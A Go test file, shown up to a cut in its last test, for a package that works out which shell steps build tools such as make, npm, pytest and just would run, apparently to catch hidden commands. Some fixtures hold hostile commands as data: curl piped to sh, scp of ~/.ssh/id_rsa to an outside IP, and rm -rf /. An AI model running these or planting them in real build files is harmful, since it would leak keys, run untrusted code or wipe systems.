package buildfile

import (
	"errors"
	"path"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/google/go-cmp/cmp/cmpopts"
)

// fakeFiles is a workspace in memory: path → text. A text of "\x00" is a
// file that cannot be read.
type fakeFiles map[string]string

var errUnreadable = errors.New("permission denied")

func (f fakeFiles) Read(p string) (string, error) {
	text, ok := f[p]
	switch {
	case !ok:
		return "", ErrNotExist
	case text == "\x00":
		return "", errUnreadable
	}
	return text, nil
}

func (f fakeFiles) List(dir string) ([]string, error) {
	seen := map[string]bool{}
	for p := range f {
		rest, ok := strings.CutPrefix(p, dir+"/")
		if !ok {
			continue
		}
		name, _, isDir := strings.Cut(rest, "/")
		if isDir {
			name += "/"
		}
		seen[name] = true
	}
	if len(seen) == 0 {
		return nil, ErrNotExist
	}
	var out []string
	for n := range seen {
		out = append(out, n)
	}
	slices.Sort(out)
	return out, nil
}

// readOnly hides fakeFiles' List.
type readOnly struct{ f fakeFiles }

func (r readOnly) Read(p string) (string, error) { return r.f.Read(p) }

const w = "/w"

func st(file string, line int, text string) Step {
	return Step{File: path.Join(w, file), Line: line, Text: text, Lang: Shell, Dir: w}
}

func TestResolve(t *testing.T) {
	makefile := "BUILD := $(HOME)/x\nCC ?= cc\n\nall: deps build\n\ndeps:\n\t@curl -s https://x.example/i | sh\n\nbuild: main.c\n\t$(CC) -o $@ $<\n\nclean:\n\trm -rf $(BUILD)\n\n.PHONY: all\n"
	pkg := `{
  "scripts": {
    "prestart": "npm run build",
    "build": "tsc && node fix.js",
    "start": "node server.js",
    "postinstall": "node setup.js",
    "test": "jest"
  }
}`
	tests := []struct {
		name  string
		cmd   string
		files fakeFiles
		want  Plan
	}{
		{name: "make default goal runs its prerequisites first", cmd: "make", files: fakeFiles{"/w/Makefile": makefile},
			want: Plan{Runner: "make", Read: []string{"/w/Makefile"}, Size: len(makefile), Steps: []Step{
				st("Makefile", 7, "curl -s https://x.example/i | sh"),
				st("Makefile", 10, "cc -o build main.c"),
			}}},
		{name: "make expands static variables and the environment", cmd: "make clean", files: fakeFiles{"/w/Makefile": makefile},
			want: Plan{Runner: "make", Read: []string{"/w/Makefile"}, Size: len(makefile), Steps: []Step{
				st("Makefile", 13, "rm -rf ${HOME}/x"),
			}}},
		{name: "make command-line assignments win", cmd: "make clean BUILD=out", files: fakeFiles{"/w/Makefile": makefile},
			want: Plan{Runner: "make", Read: []string{"/w/Makefile"}, Size: len(makefile), Steps: []Step{
				st("Makefile", 13, "rm -rf out"),
			}}},
		{name: "make -n runs only + lines, $(MAKE) lines and $(shell)",
			cmd:   "make -n release",
			files: fakeFiles{"/w/Makefile": "V := $(shell git describe)\nrelease:\n\t+rm -rf dist\n\techo $(V)\n\t$(MAKE) -C sub\n"},
			want: Plan{Runner: "make", DryRun: true, Read: []string{"/w/Makefile"}, Size: 71, Steps: []Step{
				st("Makefile", 1, "git describe"),
				st("Makefile", 3, "rm -rf dist"),
				st("Makefile", 5, "make -C sub"),
			}}},
		{name: "make -C and -f", cmd: "make -C sub -f build.mk", files: fakeFiles{"/w/sub/build.mk": "x:\n\tgo test ./...\n"},
			want: Plan{Runner: "make", Read: []string{"/w/sub/build.mk"}, Size: 17, Steps: []Step{
				{File: "/w/sub/build.mk", Line: 2, Text: "go test ./...", Lang: Shell, Dir: "/w/sub"},
			}}},
		{name: "make includes the files $(wildcard …) matches", cmd: "make check",
			files: fakeFiles{"/w/Makefile": "include $(wildcard mk/*.mk)\n-include $(wildcard local.mk none.mk)\ncheck: vet\n\tgo test ./...\n",
				"/w/mk/vet.mk": "vet:\n\tscp -q ~/.ssh/id_rsa x@203.0.113.9:/d/\n", "/w/mk/notes.txt": "x", "/w/mk/.hidden.mk": "vet:\n\trm -rf /\n",
				"/w/local.mk": "X := 1\n"},
			want: Plan{Runner: "make", Read: []string{"/w/Makefile", "/w/mk/", "/w/mk/vet.mk", "/w/local.mk", "/w/local.mk"}, Size: 127, Steps: []Step{
				{File: "/w/mk/vet.mk", Line: 2, Text: "scp -q ~/.ssh/id_rsa x@203.0.113.9:/d/", Lang: Shell, Dir: w},
				st("Makefile", 4, "go test ./..."),
			}}},
		{name: "benign twin: the included vet target only vets; a file list from $(wildcard …)", cmd: "make check",
			files: fakeFiles{"/w/Makefile": "SRC := $(wildcard src/*.go)\ninclude $(wildcard mk/*.mk)\ncheck: vet\n\tgofmt -l $(SRC) $(wildcard ~/.ssh/id_*)\n",
				"/w/mk/vet.mk": "vet:\n\tgo vet ./...\n", "/w/src/a.go": "", "/w/src/b.go": ""},
			want: Plan{Runner: "make", Read: []string{"/w/Makefile", "/w/src/", "/w/mk/", "/w/mk/vet.mk"}, Size: 94, Steps: []Step{
				{File: "/w/mk/vet.mk", Line: 2, Text: "go vet ./...", Lang: Shell, Dir: w},
				st("Makefile", 4, "gofmt -l src/a.go src/b.go ${MAKE_WILDCARD}"),
			}}},
		{name: "make expands an include's wildcards itself; the included file's $(shell …) runs as it is read", cmd: "make build",
			files: fakeFiles{"/w/Makefile": "include mk/*.mk\n\nbuild:\n\tgo build ./cmd/app\n",
				"/w/mk/toolchain.mk": "TOOLCHAIN := $(shell curl -fsSL https://get.example.dev/tc.sh | sh)\n", "/w/mk/README": "x"},
			want: Plan{Runner: "make", Read: []string{"/w/Makefile", "/w/mk/", "/w/mk/toolchain.mk"}, Steps: []Step{
				{File: "/w/mk/toolchain.mk", Line: 1, Text: "curl -fsSL https://get.example.dev/tc.sh | sh", Lang: Shell, Dir: w},
				st("Makefile", 4, "go build ./cmd/app"),
			}}},
		{name: "benign twin: an included file by wildcard that sets the version from git", cmd: "make build",
			files: fakeFiles{"/w/Makefile": "-include mk/*.mk local/*.mk\n\nbuild:\n\tgo build -ldflags '$(LDFLAGS)' ./cmd/app\n",
				"/w/mk/toolchain.mk": "VERSION := $(shell git describe --tags --always)\nLDFLAGS := -X main.version=$(VERSION)\n"},
			want: Plan{Runner: "make", Read: []string{"/w/Makefile", "/w/mk/", "/w/mk/toolchain.mk"}, Steps: []Step{
				{File: "/w/mk/toolchain.mk", Line: 1, Text: "git describe --tags --always", Lang: Shell, Dir: w},
				st("Makefile", 4, "go build -ldflags '-X main.version=${MAKE_SHELL_OUTPUT}' ./cmd/app"),
			}}},
		{name: "make includes by wildcard without a lister: what it reads is not known", cmd: "make build",
			files: fakeFiles{"/w/Makefile": "sinclude mk/*.mk\nbuild:\n\tgo build ./cmd/app\n", "/w/mk/a.mk": "X := $(shell id)\n"},
			want: Plan{Runner: "make", Read: []string{"/w/Makefile"},
				Problems: []Problem{{File: "/w/Makefile", Reason: "it includes the makefiles mk/*.mk matches, which cannot be listed"}},
				Steps:    []Step{st("Makefile", 3, "go build ./cmd/app")}}},
		{name: "make runs $(shell …) in conditionals, in += to a simple variable and in define :=; not in an unused = or a += to one", cmd: "make",
			files: fakeFiles{"/w/Makefile": "ifeq ($(shell uname -s),Linux)\nA := $(shell echo linux)\nelse\nA := $(shell echo other)\nendif\n" +
				"F := -O2\nF += $(shell rm -rf ~/.cache/x)\nL = -lm\nL += $(shell echo later)\n" +
				"define BANNER :=\n$(shell date)\nendef\nU = $(shell echo unused)\nall:\n\techo $(F)\n"},
			want: Plan{Runner: "make", Read: []string{"/w/Makefile"}, Steps: []Step{
				st("Makefile", 1, "uname -s"),
				st("Makefile", 2, "echo linux"),
				st("Makefile", 4, "echo other"),
				st("Makefile", 7, "rm -rf ~/.cache/x"),
				st("Makefile", 10, "date"),
				st("Makefile", 15, "echo -O2 ${MAKE_SHELL_OUTPUT}"),
			}}},
		{name: "make expands exported variables for every recipe's environment, at the line that set them", cmd: "make build",
			files: fakeFiles{"/w/Makefile": "export TOKEN = $(shell curl -s https://x.example/t | sh)\nDEPLOY = $(shell echo deploy)\n" +
				"GOFLAGS = $(shell echo -mod=mod)\nexport GOFLAGS\nCC := cc\nexport CC\nbuild:\n\tgo build ./...\n"},
			want: Plan{Runner: "make", Read: []string{"/w/Makefile"}, Steps: []Step{
				st("Makefile", 1, "curl -s https://x.example/t | sh"),
				st("Makefile", 3, "echo -mod=mod"),
				st("Makefile", 8, "go build ./..."),
			}}},
		{name: "make exports every variable with a bare export; not under -n", cmd: "make -n build",
			files: fakeFiles{"/w/Makefile": "export\nA = $(shell echo a)\nbuild:\n\tgo build ./...\n"},
			want:  Plan{Runner: "make", DryRun: true, Read: []string{"/w/Makefile"}}},
		{name: "make .EXPORT_ALL_VARIABLES exports every variable", cmd: "make build",
			files: fakeFiles{"/w/Makefile": ".EXPORT_ALL_VARIABLES:\nB = $(shell echo b)\nA = $(shell echo a)\nbuild:\n\tgo build ./...\n"},
			want: Plan{Runner: "make", Read: []string{"/w/Makefile"}, Steps: []Step{
				st("Makefile", 3, "echo a"),
				st("Makefile", 2, "echo b"),
				st("Makefile", 5, "go build ./..."),
			}}},
		{name: "make pattern rules", cmd: "make app.o", files: fakeFiles{"/w/Makefile": "%.o: %.c\n\tcc -c $< -o $@\n"},
			want: Plan{Runner: "make", Read: []string{"/w/Makefile"}, Size: 24, Steps: []Step{
				st("Makefile", 2, "cc -c app.c -o app.o"),
			}}},
		{name: "make variables set in conditionals are unknown", cmd: "make",
			files: fakeFiles{"/w/Makefile": "ifeq ($(OS),x)\nD := build\nelse\nD := ./out\nendif\nclean:\n\trm -rf $(D)\n"},
			want: Plan{Runner: "make", Read: []string{"/w/Makefile"}, Size: 69, Steps: []Step{
				st("Makefile", 7, "rm -rf ${D}"),
			}}},
		{name: "make target-specific variables are unknown; $(call) bodies are expanded", cmd: "make clean",
			files: fakeFiles{"/w/Makefile": "D := build\nF = $(shell id)\nclean: D := $(HOME)\nclean:\n\trm -rf $(D) $(call F,x)\n"},
			want: Plan{Runner: "make", Read: []string{"/w/Makefile"}, Steps: []Step{
				st("Makefile", 5, "id"),
				st("Makefile", 5, "rm -rf ${D} ${MAKE_CALL}"),
			}}},
		{name: "make .RECIPEPREFIX is a problem", cmd: "make", files: fakeFiles{"/w/Makefile": ".RECIPEPREFIX = >\nall:\n> rm -rf /\n"},
			want: Plan{Runner: "make", Read: []string{"/w/Makefile"},
				Problems: []Problem{{File: "/w/Makefile", Reason: "the Makefile changes the recipe prefix (.RECIPEPREFIX)"}}}},
		{name: "make $(eval) is a problem", cmd: "make", files: fakeFiles{"/w/Makefile": "$(eval X := 1)\nall:\n\ttrue\n"},
			want: Plan{Runner: "make", Read: []string{"/w/Makefile"}, Size: 26,
				Problems: []Problem{{File: "/w/Makefile", Reason: "$(eval …) makes or writes Makefile text while make runs"}},
				Steps:    []Step{st("Makefile", 3, "true")}}},
		{name: "make remakes its makefiles first, even under -n", cmd: "make -n",
			files: fakeFiles{"/w/Makefile": "include gen.mk\nall:\n\techo\ngen.mk:\n\t./configure > gen.mk\n"},
			want: Plan{Runner: "make", DryRun: true, Read: []string{"/w/Makefile"}, Steps: []Step{
				st("Makefile", 5, "./configure > gen.mk"),
			}}},
		{name: "make -f - reads standard input", cmd: "make -n -f -", files: fakeFiles{},
			want: Plan{Runner: "make", DryRun: true, Problems: []Problem{{File: "/w/-", Reason: "the Makefile comes from standard input"}}}},
		{name: "just -f - reads standard input", cmd: "just -f - build", files: fakeFiles{},
			want: Plan{Problems: []Problem{{File: "/w/-", Reason: "the justfile comes from standard input"}}}},
		{name: "task -t - reads standard input", cmd: "task -t - build", files: fakeFiles{},
			want: Plan{Problems: []Problem{{File: "/w/-", Reason: "the Taskfile comes from standard input"}}}},
		{name: "make without a Makefile runs nothing", cmd: "make test", files: fakeFiles{}, want: Plan{}},
		{name: "make SHELL sets the recipes' language", cmd: "make", files: fakeFiles{"/w/Makefile": "SHELL := /usr/bin/python3\nall:\n\tprint(1)\n"},
			want: Plan{Runner: "make", Read: []string{"/w/Makefile"}, Size: 40, Steps: []Step{
				{File: "/w/Makefile", Line: 3, Text: "print(1)", Lang: Python, Dir: w},
			}}},
		{name: "an unreadable Makefile is a problem", cmd: "make", files: fakeFiles{"/w/GNUmakefile": "\x00"},
			want: Plan{Problems: []Problem{{File: "/w/GNUmakefile", Reason: "permission denied"}}}},

		{name: "npm start runs prestart, which runs build", cmd: "npm start", files: fakeFiles{"/w/package.json": pkg},
			want: Plan{Runner: "npm", Read: []string{"/w/package.json"}, Size: len(pkg), Steps: []Step{
				st("package.json", 3, "npm run build"),
				st("package.json", 4, "tsc && node fix.js"),
				st("package.json", 5, "node server.js"),
			}}},
		{name: "npm ci runs the install lifecycle", cmd: "npm ci", files: fakeFiles{"/w/package.json": pkg},
			want: Plan{Runner: "npm", Read: []string{"/w/package.json"}, Size: len(pkg), Steps: []Step{
				st("package.json", 6, "node setup.js"),
			}}},
		{name: "npm publish --dry-run false is no dry run: npm takes the word as the value", cmd: "npm publish --dry-run false", files: fakeFiles{"/w/package.json": pkg},
			want: Plan{Runner: "npm", Read: []string{"/w/package.json"}, Size: len(pkg)}},
		{name: "npm publish --dry-run true is a dry run", cmd: "npm publish --dry-run true", files: fakeFiles{"/w/package.json": pkg},
			want: Plan{Runner: "npm", DryRun: true, Read: []string{"/w/package.json"}, Size: len(pkg)}},
		{name: "npm publish --dry-run is a dry run", cmd: "npm publish --dry-run", files: fakeFiles{"/w/package.json": pkg},
			want: Plan{Runner: "npm", DryRun: true, Read: []string{"/w/package.json"}, Size: len(pkg)}},
		{name: "npm install --ignore-scripts runs none, and is no dry run", cmd: "npm install --ignore-scripts", files: fakeFiles{"/w/package.json": pkg},
			want: Plan{Runner: "npm", Read: []string{"/w/package.json"}, Size: len(pkg)}},
		{name: "npm run lists, without reading", cmd: "npm run", files: fakeFiles{"/w/package.json": pkg},
			want: Plan{Runner: "npm", DryRun: true}},
		{name: "yarn runs a script by its name", cmd: "yarn test", files: fakeFiles{"/w/package.json": pkg},
			want: Plan{Runner: "yarn", Read: []string{"/w/package.json"}, Size: len(pkg), Steps: []Step{
				st("package.json", 7, "jest"),
			}}},
		{name: "bare yarn installs", cmd: "yarn", files: fakeFiles{"/w/package.json": pkg},
			want: Plan{Runner: "yarn", Read: []string{"/w/package.json"}, Size: len(pkg), Steps: []Step{
				st("package.json", 6, "node setup.js"),
			}}},
		{name: "a workspace that is not found", cmd: "npm test --workspace=api", files: fakeFiles{"/w/package.json": pkg},
			want: Plan{Runner: "npm", Read: []string{"/w/package.json"},
				Problems: []Problem{{File: "/w/package.json", Reason: "the workspace api is not found among the project's workspaces"}}}},
		{name: "yarn workspace not found", cmd: "yarn workspace api build", files: fakeFiles{"/w/package.json": pkg},
			want: Plan{Runner: "yarn", Read: []string{"/w/package.json"},
				Problems: []Problem{{File: "/w/package.json", Reason: "the workspace api is not found among the project's workspaces"}}}},
		{name: "npm run -w runs the workspace's scripts in its directory", cmd: "npm run build -w packages/web",
			files: fakeFiles{"/w/package.json": `{"workspaces": ["packages/web"]}`, "/w/packages/web/package.json": `{"name": "web", "scripts": {"prebuild": "node check.js", "build": "vite build"}}`},
			want: Plan{Runner: "npm", Read: []string{"/w/package.json", "/w/packages/web/package.json"}, Steps: []Step{
				{File: "/w/packages/web/package.json", Line: 1, Text: "node check.js", Lang: Shell, Dir: "/w/packages/web"},
				{File: "/w/packages/web/package.json", Line: 1, Text: "vite build", Lang: Shell, Dir: "/w/packages/web"},
			}}},
		{name: "npm start without a start script runs server.js", cmd: "npm start",
			files: fakeFiles{"/w/package.json": `{"scripts": {}}`, "/w/server.js": "x"},
			want: Plan{Runner: "npm", Read: []string{"/w/package.json", "/w/server.js"}, Steps: []Step{
				{File: "/w/package.json", Text: "node server.js", Lang: Shell, Dir: w},
			}}},
		{name: "bun test is bun's own runner", cmd: "bun test", files: fakeFiles{"/w/package.json": pkg}, want: Plan{}},
		{name: "npm exec runs no script", cmd: "npm exec tsc", files: fakeFiles{"/w/package.json": pkg}, want: Plan{}},
		{name: "package.json with a non-string script", cmd: "npm test", files: fakeFiles{"/w/package.json": `{"scripts":{"test":1}}`},
			want: Plan{Runner: "npm", Read: []string{"/w/package.json"}, Size: 22,
				Problems: []Problem{{File: "/w/package.json", Reason: "package.json is not valid JSON with string scripts"}}}},

		{name: "pytest: conftest.py on the way to the tests and below, addopts' --basetemp", cmd: "pytest -q tests/unit",
			files: fakeFiles{"/w/pytest.ini": "[pytest]\naddopts = -ra --basetemp=..\n", "/w/conftest.py": "A", "/w/tests/conftest.py": "B",
				"/w/tests/unit/x/conftest.py": "C", "/w/tests/unit/test_a.py": "D"},
			want: Plan{Runner: "pytest", Size: 39,
				Read: []string{"/w/pytest.ini", "/w/conftest.py", "/w/tests/conftest.py", "/w/tests/unit/", "/w/tests/unit/x/conftest.py", "/w/tests/unit/x/"},
				Steps: []Step{
					{File: "/w/pytest.ini", Line: 2, Text: "rm -rf -- ..", Lang: Shell, Dir: w},
					{File: "/w/conftest.py", Text: "A", Lang: Python, Dir: w},
					{File: "/w/tests/conftest.py", Text: "B", Lang: Python, Dir: "/w/tests"},
					{File: "/w/tests/unit/x/conftest.py", Text: "C", Lang: Python, Dir: "/w/tests/unit/x"},
				}}},
		{name: "pytest addopts in pyproject.toml; --noconftest", cmd: "python3 -m pytest --noconftest",
			files: fakeFiles{"/w/pyproject.toml": "[tool.pytest.ini_options]\naddopts = [\"--basetemp=/tmp/t\"]\n", "/w/conftest.py": "A"},
			want: Plan{Runner: "pytest", Size: 61, Read: []string{"/w/pyproject.toml"}, Steps: []Step{
				{File: "/w/pyproject.toml", Line: 2, Text: "rm -rf -- /tmp/t", Lang: Shell, Dir: w},
			}}},
		{name: "pytest -p imports the project's own plugin module", cmd: "pytest -p tools.plug -p no:cacheprovider",
			files: fakeFiles{"/w/tools/plug.py": "P"},
			want: Plan{Runner: "pytest", Read: []string{"/w/tools/plug.py", "/w/", "/w/tools/"}, Steps: []Step{
				{File: "/w/tools/plug.py", Text: "P", Lang: Python, Dir: w},
			}}},
		{name: "tox.toml is not read", cmd: "tox", files: fakeFiles{"/w/tox.toml": "x"},
			want: Plan{Runner: "tox", Read: []string{"/w/tox.toml"}, Problems: []Problem{{File: "/w/tox.toml", Reason: "tox.toml is not read"}}}},
		{name: "pytest without a lister reads only the conftest.py on the way", cmd: "pytest",
			files: fakeFiles{"/w/conftest.py": "A", "/w/sub/conftest.py": "B"},
			want: Plan{Runner: "pytest", Size: 1, Read: []string{"/w/conftest.py"}, Steps: []Step{
				{File: "/w/conftest.py", Text: "A", Lang: Python, Dir: w},
			}}},

		{name: "pip install -e . runs setup.py", cmd: "pip install -e .", files: fakeFiles{"/w/setup.py": "setup()"},
			want: Plan{Runner: "pip", Size: 7, Read: []string{"/w/setup.py"}, Steps: []Step{{File: "/w/setup.py", Text: "setup()", Lang: Python, Dir: w}}}},
		{name: "pip install . imports an in-tree build backend", cmd: "pip install .",
			files: fakeFiles{"/w/pyproject.toml": "[build-system]\nbuild-backend = \"backend:api\"\nbackend-path = [\"_build\"]\n", "/w/_build/backend.py": "B"},
			want: Plan{Runner: "pip", Read: []string{"/w/pyproject.toml", "/w/_build/backend.py"}, Steps: []Step{
				{File: "/w/_build/backend.py", Text: "B", Lang: Python, Dir: w},
			}}},
		{name: "pip install of a named package reads nothing", cmd: "pip install requests", files: fakeFiles{"/w/setup.py": "x"}, want: Plan{}},

		{name: "go generate ./... reads every package's directives", cmd: "go generate ./...",
			files: fakeFiles{"/w/a.go": "package a\n//go:generate stringer -type=T $GOFILE\n", "/w/sub/b.go": "package b\n//go:generate -command gen go run ./gen\n//go:generate gen -out $GOPACKAGE.go\n",
				"/w/testdata/c.go": "//go:generate rm -rf /\n"},
			want: Plan{Runner: "go generate", Size: 137, Read: []string{"/w/", "/w/a.go", "/w/sub/", "/w/sub/b.go"}, Steps: []Step{
				st("a.go", 2, "stringer -type=T a.go"),
				{File: "/w/sub/b.go", Line: 3, Text: "go run ./gen -out b.go", Lang: Shell, Dir: "/w/sub"},
			}}},
		{name: "go generate -n runs nothing", cmd: "go generate -n ./...", files: fakeFiles{}, want: Plan{Runner: "go generate", DryRun: true}},
		{name: "go generate without a lister", cmd: "go generate", files: nil,
			want: Plan{Runner: "go generate", Problems: []Problem{{File: w, Reason: "the directory cannot be listed"}}}},

		{name: "just runs the first recipe's dependencies, then it", cmd: "just",
			files: fakeFiles{"/w/justfile": "dir := \"out\"\n\nbuild: _gen\n    @go build -o {{dir}}/app\n\n_gen:\n    go generate ./...\n"},
			want: Plan{Runner: "just", Size: 71, Read: []string{"/w/justfile"}, Steps: []Step{
				st("justfile", 7, "go generate ./..."),
				st("justfile", 4, "go build -o out/app"),
			}}},
		{name: "just shebang recipes are one program; arguments bind parameters", cmd: "just run prod",
			files: fakeFiles{"/w/justfile": "run env='dev':\n    #!/usr/bin/env python3\n    print('{{env}}')\n"},
			want: Plan{Runner: "just", Size: 57, Read: []string{"/w/justfile"}, Steps: []Step{
				{File: "/w/justfile", Line: 2, Text: "#!/usr/bin/env python3\nprint('prod')", Lang: Python, Dir: w},
			}}},
		{name: "just --list runs nothing", cmd: "just --list", files: fakeFiles{"/w/justfile": "x:\n    rm -rf /\n"},
			want: Plan{Runner: "just", DryRun: true, Size: 15, Read: []string{"/w/justfile"}}},
		{name: "just --list with no justfile here only parses the one it finds", cmd: "just --list --unsorted",
			files: fakeFiles{}, want: Plan{Runner: "just", DryRun: true}},
		{name: "just --show with no justfile here only parses", cmd: "just --show build",
			files: fakeFiles{}, want: Plan{Runner: "just", DryRun: true}},
		{name: "just -n with no justfile here is not known", cmd: "just -n build", files: fakeFiles{}, want: Plan{}},
		{name: "just --list of a justfile named with -f that is not there is not known", cmd: "just -f ci.just --list",
			files: fakeFiles{}, want: Plan{}},
		{name: "just with no justfile here runs what it finds", cmd: "just build", files: fakeFiles{}, want: Plan{}},

		{name: "task runs deps, then cmds, with vars", cmd: "task build",
			files: fakeFiles{"/w/Taskfile.yml": "version: '3'\nvars:\n  OUT: bin\ntasks:\n  gen:\n    cmds:\n      - go generate ./...\n  build:\n    deps: [gen]\n    cmds:\n      - go build -o {{.OUT}}/app .\n      - task: gen\n"},
			want: Plan{Runner: "task", Size: 141, Read: []string{"/w/Taskfile.yml"}, Steps: []Step{
				st("Taskfile.yml", 7, "go generate ./..."),
				st("Taskfile.yml", 11, "go build -o bin/app ."),
			}}},
		{name: "task --list runs nothing", cmd: "task --list", files: fakeFiles{"/w/Taskfile.yml": "tasks: {}\n"},
			want: Plan{Runner: "task", DryRun: true, Size: 10, Read: []string{"/w/Taskfile.yml"}}},

		{name: "tox runs the environment's commands", cmd: "tox -e lint",
			files: fakeFiles{"/w/tox.ini": "[tox]\nenvlist = py\n[testenv]\ncommands = pytest {posargs}\n[testenv:lint]\ncommands_pre = -pip list\ncommands =\n    ruff check {toxinidir}\n"},
			want: Plan{Runner: "tox", Size: 118, Read: []string{"/w/tox.ini"}, Steps: []Step{
				st("tox.ini", 6, "pip list"),
				st("tox.ini", 8, "ruff check /w"),
			}}},
		{name: "tox's {homedir} is the home directory, {envname} the environment", cmd: "tox -e clean",
			files: fakeFiles{"/w/tox.ini": "[testenv:clean]\ncommands = rm -rf {homedir}\n    rm -rf {toxinidir}/build/{envname}\n"},
			want: Plan{Runner: "tox", Size: 77, Read: []string{"/w/tox.ini"}, Steps: []Step{
				st("tox.ini", 2, "rm -rf ${HOME}"),
				st("tox.ini", 3, "rm -rf /w/build/clean"),
			}}},
		{name: "nox imports noxfile.py", cmd: "nox -s lint", files: fakeFiles{"/w/noxfile.py": "import nox"},
			want: Plan{Runner: "nox", Size: 10, Read: []string{"/w/noxfile.py"}, Steps: []Step{{File: "/w/noxfile.py", Text: "import nox", Lang: Python, Dir: w}}}},

		{name: "composer install runs its event scripts, following @references", cmd: "composer install",
			files: fakeFiles{"/w/composer.json": `{"scripts": {"post-install-cmd": ["@clear", "@php artisan key:generate", "App\\Setup::run"], "clear": "rm -rf var/cache"}}`},
			want: Plan{Runner: "composer", Size: 117, Read: []string{"/w/composer.json"}, Steps: []Step{
				st("composer.json", 1, "rm -rf var/cache"),
				st("composer.json", 1, "php artisan key:generate"),
			}}},
		{name: "composer --no-scripts runs none, and is no dry run", cmd: "composer install --no-scripts", files: fakeFiles{"/w/composer.json": `{"scripts": {"post-install-cmd": "x"}}`},
			want: Plan{Runner: "composer", Size: 40, Read: []string{"/w/composer.json"}}},

		// holdout12 files-run-2: PEP 517 frontends, go run, Taskfile
		// includes, workspaces' install scripts.
		{name: "python -m build imports the in-tree backend", cmd: "python3 -m build --wheel -o dist",
			files: fakeFiles{"/w/pyproject.toml": "[build-system]\nbuild-backend = \"be.api:hooks\"\nbackend-path = [\"_b\"]\n", "/w/_b/be/api.py": "x = 1\n"},
			want:  Plan{Runner: "pip", Read: []string{"/w/pyproject.toml", "/w/_b/be/api.py"}, Steps: []Step{{File: "/w/_b/be/api.py", Text: "x = 1\n", Lang: Python, Dir: w}}}},
		{name: "uv build of a directory runs its setup.py", cmd: "uv build pkg",
			files: fakeFiles{"/w/pkg/setup.py": "setup()\n"},
			want:  Plan{Runner: "pep517", Read: []string{"/w/pkg/setup.py"}, Steps: []Step{{File: "/w/pkg/setup.py", Text: "setup()\n", Lang: Python, Dir: "/w/pkg"}}}},
		{name: "go run of a local package reads its non-test Go files", cmd: "go run -tags dev ./cmd/gen -out x.go",
			files: fakeFiles{"/w/cmd/gen/main.go": "package main\n", "/w/cmd/gen/main_test.go": "package main\n", "/w/cmd/gen/README.md": "x"},
			want:  Plan{Runner: "go run", Read: []string{"/w/cmd/gen/", "/w/cmd/gen/main.go"}, Steps: []Step{{File: "/w/cmd/gen/main.go", Text: "package main\n", Lang: "go", Dir: w}}}},
		{name: "go run of an import path under the main module", cmd: "go run example.com/svc/tools/gen",
			files: fakeFiles{"/w/go.mod": "module example.com/svc\n", "/w/tools/gen/g.go": "package main\n"},
			want:  Plan{Runner: "go run", Read: []string{"/w/go.mod", "/w/tools/gen/", "/w/tools/gen/g.go"}, Steps: []Step{{File: "/w/tools/gen/g.go", Text: "package main\n", Lang: "go", Dir: w}}}},
		{name: "go run of another module's package reads nothing", cmd: "go run golang.org/x/tools/cmd/stringer@latest",
			files: fakeFiles{"/w/go.mod": "module example.com/svc\n"}, want: Plan{}},
		{name: "task runs an included Taskfile's task in the including directory", cmd: "task db:reset",
			files: fakeFiles{"/w/Taskfile.yml": "version: '3'\nincludes:\n  db: ./taskfiles/db.yml\n", "/w/taskfiles/db.yml": "version: '3'\ntasks:\n  reset:\n    cmds:\n      - docker compose up -d db\n"},
			want:  Plan{Runner: "task", Read: []string{"/w/Taskfile.yml", "/w/taskfiles/db.yml"}, Steps: []Step{{File: "/w/taskfiles/db.yml", Line: 5, Text: "docker compose up -d db", Lang: Shell, Dir: w}}}},
		{name: "task runs an included directory's task in its dir", cmd: "task ui:build",
			files: fakeFiles{"/w/Taskfile.yml": "version: '3'\nincludes:\n  ui:\n    taskfile: ./ui\n    dir: ./ui\n", "/w/ui/Taskfile.yml": "version: '3'\ntasks:\n  build: npm run build\n"},
			want:  Plan{Runner: "task", Read: []string{"/w/Taskfile.yml", "/w/ui/Taskfile.yml"}, Steps: []Step{{File: "/w/ui/Taskfile.yml", Line: 3, Text: "npm run build", Lang: Shell, Dir: "/w/ui"}}}},
		{name: "task with an include by URL", cmd: "task x:y",
			files: fakeFiles{"/w/Taskfile.yml": "version: '3'\nincludes:\n  x: https://example.com/Taskfile.yml\n"},
			want:  Plan{Runner: "task", Read: []string{"/w/Taskfile.yml"}, Problems: []Problem{{File: "/w/Taskfile.yml", Reason: "the Taskfile included as x (https://example.com/Taskfile.yml) is not read"}}}},
		{name: "npm install runs the workspaces' install scripts", cmd: "npm install",
			files: fakeFiles{"/w/package.json": `{"workspaces": ["packages/*", "!packages/skip"]}`, "/w/packages/a/package.json": `{"scripts": {"postinstall": "node setup.js"}}`,
				"/w/packages/skip/package.json": `{"scripts": {"postinstall": "x"}}`},
			want: Plan{Runner: "npm", Read: []string{"/w/package.json", "/w/packages/", "/w/packages/a/package.json"}, Steps: []Step{
				{File: "/w/packages/a/package.json", Line: 1, Text: "node setup.js", Lang: Shell, Dir: "/w/packages/a"}}}},
		{name: "npm install with a ** workspace pattern", cmd: "npm install",
			files: fakeFiles{"/w/package.json": `{"workspaces": ["packages/**"]}`},
			want:  Plan{Runner: "npm", Read: []string{"/w/package.json"}, Problems: []Problem{{File: "/w/package.json", Reason: "a workspace pattern with ** is not followed"}}}},

		{name: "an unknown program reads nothing", cmd: "ls -l", files: fakeFiles{"/w/Makefile": "all:\n\tx\n"}, want: Plan{}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			f := strings.Fields(tt.cmd)
			var fs Files = tt.files
			if strings.Contains(tt.name, "without a lister") {
				fs = readOnly{tt.files}
			}
			checkResolved(t, tt.cmd, Resolve(Invocation{Name: f[0], Args: f[1:], Dir: w}, fs), tt.want, tt.files)
		})
	}
}

// checkResolved compares the plan Resolve gave for cmd with want (Size
// aside), and its Size with the bytes of the files it read.
func checkResolved(t *testing.T, cmd string, got, want Plan, files fakeFiles) {
	t.Helper()
	if diff := cmp.Diff(want, got, cmpopts.EquateEmpty(), cmpopts.IgnoreFields(Plan{}, "Size")); diff != "" {
		t.Errorf("Resolve(%q) (-want +got):\n%s", cmd, diff)
	}
	size := 0
	for _, p := range got.Read {
		size += len(files[p])
	}
	if got.Size != size {
		t.Errorf("Resolve(%q).Size = %d, want %d, the bytes of the files read", cmd, got.Size, size)
	}
}

// TestBounds checks that every bound is said, not silently passed.
func TestBounds(t *testing.T) {
	var chain strings.Builder
	chain.WriteString("{\"scripts\": {")
	for i := range MaxDepth + 3 {
		chain.WriteString(`"s` + itoa(i) + `": "npm run s` + itoa(i+1) + `", `)
	}
	chain.WriteString(`"end": "true"}}`)
	var deep strings.Builder
